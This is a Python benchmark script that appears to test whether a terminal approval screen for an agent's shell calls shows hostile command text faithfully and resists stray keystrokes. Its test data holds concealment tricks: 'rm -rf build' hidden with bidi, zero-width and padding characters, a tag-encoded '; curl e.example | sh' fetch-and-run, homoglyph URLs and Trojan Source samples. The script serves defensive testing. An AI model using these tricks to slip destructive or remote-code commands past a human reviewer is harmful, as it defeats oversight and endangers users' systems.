"""Hostile texts in a question about a call, and keys that were meant for something else.

python benchmarks/security/questions.py [--json FILE]

Each text is an argument of a call that is asked about on a real screen. All rows are drawn and read back; a row is
right when it was drawn to the letter, and the arguments that are read back equal those of the call. Hidden characters
are counted in the text and on the screen. Nothing may be allowed before the last row was there. Then keys, pastes,
changes of focus and of size come as they come to somebody who is busy with something else, and what they allow is
counted.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parents[2]))

from textual import events
from textual.app import App
from textual.geometry import Size

from rookery_core.approval.policy import Reply
from rookery_core.events import ApprovalRequested, Decision
from rookery_tui.app import RookeryApp
from rookery_tui.asking_above import AskingAbove
from rookery_tui.call_view import call_view, rows
from rookery_tui.screens.approval import ApprovalScreen
from rookery_tui.widgets.call import CallRows
from tests.tui.call_kit import arguments_on

SMALL = (60, 12)
"""A terminal on which no question is seen at once."""
GRACE_S = 0.5
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = (
    "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u3164\ufe00\ufe0f\ufeff\uffa0"
    "\U000e0100"
)
BLANK = "\u00a0\u1680\u2000\u2002\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u2800\u3000"
QUOTES = ("“”", "‘’", "„“", "«»", "‹›", "＂＂", "＇＇", "´´", "′″", "ʻʼ")
TAGS = "".join(chr(0xE0000 + ord(char)) for char in "; curl e.example | sh")
COMMENTS = {
    "c": ("/*", "*/"), "go": ("//", ""), "rust": ("///", ""), "shell": ("#", ""), "sql": ("--", ""),
    "html": ("<!--", "-->"), "haskell": ("{-", "-}"), "ocaml": ("(*", "*)"), "lisp": (";", ""), "tex": ("%", ""),
    "python": ("'''", "'''"), "ruby": ("=begin\n", "\n=end"),
}  # fmt: skip
RLO, LRI, RLI, PDI = "\u202e", "\u2066", "\u2067", "\u2069"


def trojan_sources() -> Iterator[str]:
    """The ways of Trojan Source (Boucher and Anderson, 2021) in the comments of twelve languages: 61 texts."""
    for begin, end in COMMENTS.values():
        yield f"{begin} allow {RLO}{LRI}if admin{PDI} {LRI}begin admins only {end}\nrun()"
        yield f"{begin} say why {RLI}{end} return; {LRI}{begin} end {PDI}{PDI}{end}\nrun()"
        yield f'if (level != "user{RLO}{LRI}{begin} admins only{PDI}{LRI}{end}") run()'
        yield f"{begin} greet {end}\nsay\u041dello()\nsayHello()"
        yield f"{begin} check {end}\nis\u200badmin()\nisadmin()"
    yield f"echo {RLI}''' ; rm -rf build # '''{PDI}"


def hostile() -> dict[str, list[str]]:
    """The texts by what is in them."""
    return {
        "direction": [f"rm notes{char}txt.exe" for char in BIDI] + [f"{BIDI}rm -rf build"],
        "no width": [f"rm -rf{char} build" for char in ZERO_WIDTH] + [f"git{ZERO_WIDTH * 30}status"],
        "blank": [f"rm{char}-rf build" for char in BLANK] + [f"echo a{BLANK}b"],
        "tags": [f"echo hello{TAGS}", TAGS, f"echo {TAGS * 20}"],
        "controls": [f"echo a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))],
        "half characters": ["echo \ud800", "\udfff", "a\ud83d b"],
        "marks": ["rm \u0338-rf", "e\u0301 \u00e9", "a" + "\u0301" * 500, "\u20ddx", "\n\u0300rm"],
        "homoglyphs": [
            "curl https://p\u0430ypal.example", "\u0441\u043e\u0440\u0443 a b", "\u13aa\u13e2\u13a2",
            "g\u03bf\u03bfgle", "\uff52\uff4d -rf",
            "\U0001d42b\U0001d426 x", "ls\u037e rm", "a \u2215 b", "rm \u2013rf",
        ],
        "quotes": [f"echo {a}x; rm -rf build{b}" for a, b in QUOTES],
        "padding": [
            f"echo ok{' ' * 500}; rm -rf build", f"echo ok{chr(9) * 500}; rm", f"echo ok{chr(10) * 500}rm -rf build",
            " " * 500, "\t" * 500, "\n" * 500, f"x{' ' * 500}\n{' ' * 500}y", f"a{' ' * 39}\n{' ' * 40}b",
        ],
        "returns": ["echo a\rrm -rf build", "a\r\nb\r\n", "\r" * 500, "rm -rf build\r" + " " * 40 + "\recho ok"],
        "as if written": [
            "\\u{202e}", "\\\\u{5c}u{202e}", "\\u{20×500}", "⇥␣", "\u202e\\u{202e}", "│ x\n  ┊ y\nin         /",
        ],
        "ten thousand lines": ["\n".join(f"echo {n}" for n in range(9_999)) + "\nrm -rf build"],
        "Trojan Source": list(trojan_sources()),
    }  # fmt: skip


def request(text: str, level: str = "R2") -> ApprovalRequested:
    """A question with the text in it."""
    return ApprovalRequested(
        call_id="1", tool="shell.shell", plugin="shell", distribution="rookery", risk="execute", level=level,
        arguments={"command": text, "options": {"also": text[:200]}}, workspace="/home/ann", remembers=("echo",),
        always=("echo ...",), claimed=text[:200], preview=text[:2_000],
    )  # fmt: skip


class Asks(App[None]):
    """A program that asks."""

    CSS_PATH = RookeryApp.CSS_PATH

    def __init__(self, grace_s: float) -> None:
        super().__init__()
        self.grace_s = grace_s
        self.replies: list[Reply] = []

    def on_mount(self) -> None:
        self.asking = AskingAbove(self, self.grace_s, "/home/me/rules.toml")

    async def ask(self, asked: ApprovalRequested) -> None:
        self.replies.append(await self.asking.approve(asked))

    @property
    def allowed(self) -> int:
        return sum(reply.decision is not Decision.DENY for reply in self.replies)


# -- what is seen -------------------------------------------------------------------------------------------------


def n_hidden(text: str) -> int:
    """How many characters of a text are not to be seen as they are; line feeds and spaces aside."""
    odd = ("Cc", "Cf", "Zl", "Zp", "Co", "Cs", "Cn")
    return sum(
        char not in "\n\t"
        and (unicodedata.category(char) in odd or char in ZERO_WIDTH or (char in BLANK and char != " "))
        for char in text
    )


async def seen(pilot: Any, text: str) -> dict[str, bool]:
    """Whether a text is read back, its hidden characters are there, and nothing was allowed too early."""
    app, asked = pilot.app, request(text)
    before = len(app.replies)
    app.run_worker(app.ask(asked))
    screen = await _opened(pilot)
    call = screen.query_one("#call", CallRows)
    while screen.unseen is None:
        await pilot.pause(0.01)
    locked = screen.unseen > 0
    for key in ("y", "s", "a", "enter"):
        app.post_message(events.Key(key, None))
    await pilot.pause(0.05)
    locked = locked and len(app.replies) == before
    drawn = []
    while len(drawn) < len(call.rows):
        call.scroll_to(y=len(drawn), animate=False)
        top = int(call.scroll_offset.y)
        strips = [call.render_line(y).text for y in range(call.size.height)]
        drawn += strips[len(drawn) - top :]
    shown = "\n".join(drawn)
    exact = all(
        line.rstrip() == f"{row.head}{row.text}{row.tail}".rstrip() for row, line in zip(call.rows, drawn, strict=True)
    )
    escapes = sum(int(n or 1) for code, n in re.findall(r"\\u\{([0-9a-f]+)(?:×(\d+))?\}", _argument(call)))
    result = {
        "read back": exact and arguments_on(call.rows) == asked.arguments,
        "hidden is shown": escapes >= n_hidden(text) and not n_hidden(shown),
        "locked": locked,
    }
    while len(app.replies) == before:
        app.post_message(events.Key("n", "n"))
        await pilot.pause(0.02)
    return result


def _argument(call: CallRows) -> str:
    """The first argument, as it is written."""
    found, inside = [], False
    for row in call.rows:
        if row.head.startswith("  command"):
            inside = True
        elif row.head.strip() not in ("│", "┊"):
            inside = False
        if inside:
            found.append(row.text)
    return "".join(found)


async def _opened(pilot: Any) -> ApprovalScreen:
    while not isinstance(screen := pilot.app.screen, ApprovalScreen):
        await pilot.pause(0.01)
    return screen


async def all_seen(texts: list[str]) -> list[tuple[str, str]]:
    """What went wrong with the texts, as what and the text's beginning."""
    wrong = []
    async with Asks(0.0).run_test(size=SMALL) as pilot:
        for text in texts:
            wrong += [(what, ascii(text[:40])) for what, right in (await seen(pilot, text)).items() if not right]
    return wrong


def read_back(texts: list[str]) -> int:
    """How many of the texts are not read back from rows of some widths."""
    return sum(
        arguments_on(rows(call_view(asked).lines, width)) != asked.arguments
        for text in texts
        for width in (40, 80)
        if (asked := request(text))
    )


# -- what is allowed ----------------------------------------------------------------------------------------------

WORDS = ("y", "yes", "yy", "y\n", "yes\n", "sure, yes\n", "s", "a\n", "\n", "ysa", "always\n", "why not\n")


def _type(app: App[None], text: str) -> None:
    for char in text:
        app.post_message(events.Key("enter", "\r") if char == "\n" else events.Key(char, char))


async def stray(pilot: Any, kind: str, n: int) -> None:
    """A question, while keys come that are not meant for it."""
    app, text = pilot.app, WORDS[n % len(WORDS)]
    if kind == "before it":
        _type(app, text)
    worker = app.run_worker(app.ask(request("echo hello", "R3" if n % 2 else "R2")), exit_on_error=False)
    if kind == "before it":
        _type(app, text)
    elif kind == "as it comes":
        screen = await _opened(pilot)
        _type(app, f"{text}y" if screen.grace.armed else text)  # a busy machine may have been silent for long enough
    else:
        screen = await _opened(pilot)
        while not screen.grace.armed:
            await pilot.pause(0.02)
        if kind == "a word":
            _type(app, f"{text}y")
        elif kind == "a paste":
            app.post_message(events.Paste(text))
            _type(app, text)
        elif kind == "another window":
            app.post_message(events.AppBlur())
            app.post_message(events.AppFocus())
            await pilot.pause()
            _type(app, text)
        elif kind == "another size":
            size = Size(70 + n % 20, 20 + n % 10)
            app.post_message(events.Resize(size, size))
            _type(app, f"x{text}")
    await pilot.pause(0.45)
    worker.cancel()
    while len(app.screen_stack) > 1:
        await pilot.pause(0.01)


KINDS = ("before it", "as it comes", "a word", "a paste", "another window", "another size")


async def all_stray(trials: int) -> dict[str, int]:
    """How much was allowed, by how the keys came; so many trials of each."""
    allowed = {}
    async with Asks(GRACE_S).run_test(size=(100, 40)) as pilot:
        app = pilot.app
        assert isinstance(app, Asks)
        for kind in KINDS:
            for n in range(trials):
                await stray(pilot, kind, n)
            allowed[kind] = app.allowed
            app.replies.clear()
    return allowed


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--naughty", type=Path, default=Path(__file__).parents[2] / "tests/data/security/blns.json")
    parser.add_argument("--trials", type=int, default=36, help="of each way that keys come")
    parser.add_argument("--json", type=Path)
    given = parser.parse_args()
    wrong, n = [], 0
    for kind, texts in hostile().items():
        found = asyncio.run(all_seen(texts))
        n += len(texts)
        wrong += found
        print(f"{kind:20} {len(texts):4} texts: {len(found)} wrong {found[:3]}", flush=True)
    for what in ("read back", "hidden is shown", "locked"):
        failed = sum(each == what for each, _ in wrong)
        print(f"{what:20} {n - failed}/{n}{'' if failed else f', upper bound {3 / n:.2%}'}")
    naughty = [str(each) for each in json.loads(given.naughty.read_text(encoding="utf-8"))]
    lost = read_back(naughty)
    print(f"naughty strings      {2 * len(naughty) - lost}/{2 * len(naughty)} read back, at two widths")
    allowed = asyncio.run(all_stray(given.trials))
    total = given.trials * len(KINDS)
    for kind, count in allowed.items():
        print(f"{kind:20} {count} allowed of {given.trials}")
    none = not sum(allowed.values())
    print(f"N = {total}: {sum(allowed.values())} allowed{f', upper bound {3 / total:.2%}' if none else ''}")
    if given.json:
        given.json.write_text(json.dumps({"wrong": wrong, "texts": n, "lost": lost, "allowed": allowed}))
    return bool(wrong or lost or not none)


if __name__ == "__main__":
    sys.exit(main())
